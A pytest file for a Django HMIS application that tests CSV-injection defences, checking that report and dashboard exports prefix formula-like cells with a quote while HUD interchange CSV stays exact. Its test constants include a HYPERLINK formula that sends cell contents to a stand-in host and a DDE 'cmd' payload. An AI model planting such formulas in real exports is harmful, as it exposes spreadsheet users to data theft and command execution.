"""CSV made for people neutralizes cells a spreadsheet would run as formulas (CSV
injection, OWASP); HMIS CSV, machine interchange in HUD's format, stays exact."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from agencies.models import Agency, Coc, Project
from enrollments.models import Enrollment
from hmis import csvsafe
from reports.hud import runner
from reports.models import ReportRun
from tests.clients.states import make_client

START, END = date(2026, 1, 1), date(2026, 6, 30)
FORMULA_PROJECT = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
FORMULA_AGENCY = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- the helper ------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_leading_quote(start):
    out = io.StringIO()
    csvsafe.writer(out).writerow([f"{start}1+1", "plain"])
    assert rows_of(out.getvalue())[0] == [f"'{start}1+1", "plain"]


def test_numbers_empty_cells_and_ordinary_text_are_written_as_they_are():
    out = io.StringIO()
    csvsafe.writer(out, lineterminator="\r\n").writerows([
        [-5, -1.5, Decimal("-2.50"), 0, None, True, "", "A Shelter", "x=1", "O'Neil", date(2026, 1, 2)],
    ])
    assert out.getvalue() == "-5,-1.5,-2.50,0,,True,,A Shelter,x=1,O'Neil,2026-01-02\r\n"


def test_a_number_sent_as_text_is_still_neutralized():
    """Only real numbers are trusted; "-5" as text could as well be "-5+cmd"."""
    out = io.StringIO()
    csvsafe.writer(out).writerow(["-5", "+1"])
    assert rows_of(out.getvalue())[0] == ["'-5", "'+1"]


# --- every people-facing CSV uses it ------------------------------------------------


@pytest.fixture
def formula_names(tenancy):
    """An agency and a project named by someone who hoped a spreadsheet would run them."""
    Agency.objects.filter(pk=tenancy.agency_a.pk).update(name=FORMULA_AGENCY)
    Project.objects.filter(pk=tenancy.shelter_a.pk).update(name=FORMULA_PROJECT)
    tenancy.agency_a.refresh_from_db()
    tenancy.shelter_a.refresh_from_db()
    return tenancy


@pytest.mark.django_db
def test_hud_report_table_csv_and_zip_neutralize_project_and_agency_names(formula_names, signed_in):
    t = formula_names
    report = ReportRun.objects.create(kind="apr", start=START, end=END, requested_by=t.admin)
    report.projects.set([t.shelter_a])
    runner.run(report)
    admin = signed_in(t.admin)
    q4a = rows_of(admin.get(reverse("reports:hud_table_csv", args=[report.pk, "Q4a"])).content.decode())
    # HUD's Q4a columns: Organization Name, Organization ID, Project Name, ...
    assert q4a[1][0] == "'" + FORMULA_AGENCY and q4a[1][2] == "'" + FORMULA_PROJECT
    assert q4a[1][-1] == "0"  # counts stay numbers
    archive = zipfile.ZipFile(io.BytesIO(admin.get(reverse("reports:hud_csv_zip", args=[report.pk])).content))
    assert rows_of(archive.read("Q4a.csv").decode())[1][:3:2] == ["'" + FORMULA_AGENCY, "'" + FORMULA_PROJECT]


@pytest.mark.django_db
def test_license_dashboard_csv_neutralizes_agency_names(formula_names, signed_in):
    response = signed_in(formula_names.admin).get(reverse("license_dashboard"), {"format": "csv"})
    agencies = {row[0] for row in rows_of(response.content.decode())[1:]}
    assert "'" + FORMULA_AGENCY in agencies and FORMULA_AGENCY not in agencies


@pytest.mark.django_db
def test_opt_out_tally_csv_neutralizes_names_and_keeps_counts(formula_names, signed_in):
    from consent.models import OptOutTally

    OptOutTally.objects.create(project=formula_names.shelter_a, date=date(2026, 2, 3), count=2)
    director = signed_in(formula_names.director_a)
    lines = rows_of(director.get(reverse("consent:opt_out_tally") + "?year=2026&download=csv").content.decode())
    assert lines[1] == ["'" + FORMULA_AGENCY, "'" + FORMULA_PROJECT, "2", "0", "0", "0", "2"]


@pytest.mark.django_db
def test_deidentified_extract_neutralizes_text_cells(tenancy):
    from reports.extract import write_extract

    person = make_client(tenancy.worker_a, project=tenancy.shelter_a)
    Enrollment.objects.create(
        client=person, project=tenancy.shelter_a, household_id="H1", relationship_to_hoh=1,
        enrollment_coc=tenancy.coc1.code, entry_date=date(2026, 2, 1), information_date=date(2026, 2, 1),
        disabling_condition=0, entered_by=tenancy.worker_a, agency=tenancy.agency_a)
    Coc.objects.filter(pk=tenancy.coc1.pk).update(code="=1+1")  # the form's validator would refuse it; the file must not trust that
    archive = zipfile.ZipFile(io.BytesIO(write_extract(Coc.objects.filter(pk=tenancy.coc1.pk), START, END)))
    stays = list(csv.DictReader(io.StringIO(archive.read("Stays.csv").decode())))
    assert [s["CoCCode"] for s in stays] == ["'=1+1"]


@pytest.mark.django_db
def test_hmis_csv_export_stays_exact_for_machine_interchange(formula_names, tmp_path):
    """HMIS CSV is read by other HMIS systems, not spreadsheets: a value is never altered."""
    from consent.visibility import Viewer
    from reports.hmis_csv.export import Scope, write_export

    make_client(formula_names.worker_a, project=formula_names.shelter_a)
    target = tmp_path / "export.zip"
    write_export(Scope(viewer=Viewer(user=formula_names.admin, license=None)), target, portable=True)
    archive = zipfile.ZipFile(target)
    projects = list(csv.DictReader(io.StringIO(archive.read("Project.csv").decode())))
    organizations = list(csv.DictReader(io.StringIO(archive.read("Organization.csv").decode())))
    assert FORMULA_PROJECT in {p["ProjectName"] for p in projects}
    assert FORMULA_AGENCY in {o["OrganizationName"] for o in organizations}
